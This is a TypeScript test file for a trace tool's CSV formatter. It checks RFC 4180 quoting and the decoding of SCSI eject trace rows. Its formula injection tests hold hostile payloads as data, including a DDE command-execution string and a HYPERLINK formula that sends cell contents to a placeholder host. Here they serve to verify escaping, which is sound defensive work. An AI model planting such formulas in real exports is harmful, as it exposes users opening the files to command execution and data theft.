// CSV output (src/cli/csv.ts): RFC 4180 quoting checked by parsing the output back with an
// independent RFC 4180 reader, and spreadsheet formula injection neutralised (OWASP "CSV
// Injection": cells starting with = + - @ TAB CR).
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { RecordKind, TraceRecord } from "../src/client/gen/cdfilter.ts";
import { CSV_COLUMNS, CsvFormatter, csvCell, csvRow } from "../src/cli/csv.ts";

/** RFC 4180 §2 reader: records end with CRLF, quoted fields may hold , " CR LF, "" is a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        cell += ch;
        i++;
      }
    } else if (ch === '"' && cell === "") {
      quoted = true;
      i++;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
      i++;
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else {
      if (ch === '"' || ch === "\n" || ch === "\r") throw new Error(`bare ${JSON.stringify(ch)} at ${i}: not RFC 4180`);
      cell += ch;
      i++;
    }
  }
  if (quoted) throw new Error("unterminated quote");
  if (cell !== "" || row.length) throw new Error("last record without CRLF");
  return rows;
}

/** What a spreadsheet shows for a cell we wrote: our leading ' removed. */
const shown = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

describe("RFC 4180 quoting", () => {
  it("quotes only cells that need it, doubling quotes", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell("cr\rhere")).toBe('"cr\rhere"');
    expect(csvCell(12n)).toBe("12");
    expect(csvCell(true)).toBe("true");
  });

  it("any strings survive a round trip through an RFC 4180 reader", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const text = rows.map((r) => csvRow(r) + "\r\n").join("");
          const back = parseCsv(text).map((r) => r.map(shown));
          expect(back).toEqual(rows);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe("formula injection", () => {
  it.each(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])("neutralises %j", (payload) => {
    const cell = csvCell(payload);
    const back = parseCsv(csvRow([payload]) + "\r\n")[0]![0]!;
    expect(back.startsWith("'")).toBe(true);
    expect(back.slice(1)).toBe(payload);
    expect(cell.replace(/^"/, "")[0]).not.toMatch(/[=+\-@\t\r]/);
  });

  it("an image name from the driver cannot become a formula in the trace CSV", () => {
    const f = new CsvFormatter();
    const evil = '=HYPERLINK("http://x/?"&A1,"ok")';
    const text =
      f.header() +
      f.format({
        type: "record",
        record: TraceRecord.create({ seq: 1n, kind: RecordKind.RECORD_KIND_DISPATCH, openerImage: evil, pid: 4, major: 3, timestamp: 10n }),
      });
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const image = rows[1]![CSV_COLUMNS.indexOf("image")]!;
    expect(image).toBe(`'${evil}`);
    for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

describe("trace rows", () => {
  it("one row per record, drops as DROPPED rows, completions named by their dispatch", () => {
    const f = new CsvFormatter();
    const spt = new Uint8Array(56 + 32);
    spt[0] = 56; // Length: x64 SCSI_PASS_THROUGH
    spt[6] = 6; // CdbLength
    spt.set([0x1b, 0, 0, 0, 0x02, 0], 36); // START STOP UNIT LoEj=1 Start=0
    const common = { requestId: 7n, driveId: 1, major: 14, ioctlCode: 0x4d004, normalizedCode: 0x4d004, pid: 10, openerImage: "a, b.exe" };
    const text =
      f.header() +
      f.format({
        type: "record",
        record: TraceRecord.create({ ...common, seq: 5n, timestamp: 100n, kind: RecordKind.RECORD_KIND_DISPATCH, inputHead: spt }),
      }) +
      f.format({ type: "dropped", count: 3n, afterSeq: 5n }) +
      f.format({
        type: "record",
        record: TraceRecord.create({
          ...common,
          seq: 9n,
          timestamp: 12_345_778n,
          kind: RecordKind.RECORD_KIND_COMPLETION,
          status: 0x80000011,
        }),
      });
    const rows = parseCsv(text);
    const col = (row: number, name: (typeof CSV_COLUMNS)[number]) => rows[row]![CSV_COLUMNS.indexOf(name)];
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(col(1, "request")).toBe("IOCTL_SCSI_PASS_THROUGH START STOP UNIT LoEj=1 Start=0 (eject)");
    expect(col(1, "cdb")).toBe("START STOP UNIT LoEj=1 Start=0 (eject)");
    expect(col(1, "image")).toBe("a, b.exe");
    expect(col(1, "input_head_hex")?.startsWith("38000000")).toBe(true);
    expect(col(2, "kind")).toBe("DROPPED");
    expect(col(2, "dropped")).toBe("3");
    expect(col(2, "seq")).toBe("5");
    expect(col(3, "request")).toBe("IOCTL_SCSI_PASS_THROUGH START STOP UNIT LoEj=1 Start=0 (eject)");
    expect(col(3, "status")).toBe("STATUS_DEVICE_BUSY");
    expect(col(3, "status_code")).toBe("0x80000011");
    expect(col(3, "seconds")).toBe("1.2345678");
    expect(col(1, "status")).toBe(""); // a dispatch carries no status
  });

  it("a completion row names its argument when the filter hid the dispatch (remember)", () => {
    const f = new CsvFormatter();
    const common = { requestId: 9n, driveId: 1, major: 14, ioctlCode: 0x2d0940, normalizedCode: 0x2d0940 };
    f.remember(TraceRecord.create({ ...common, seq: 1n, kind: RecordKind.RECORD_KIND_DISPATCH, inputHead: Uint8Array.of(1) }));
    const rows = parseCsv(
      f.header() +
        f.format({ type: "record", record: TraceRecord.create({ ...common, seq: 2n, kind: RecordKind.RECORD_KIND_COMPLETION }) }),
    );
    expect(rows[1]![CSV_COLUMNS.indexOf("request")]).toBe("IOCTL_STORAGE_EJECTION_CONTROL TRUE");
  });
});
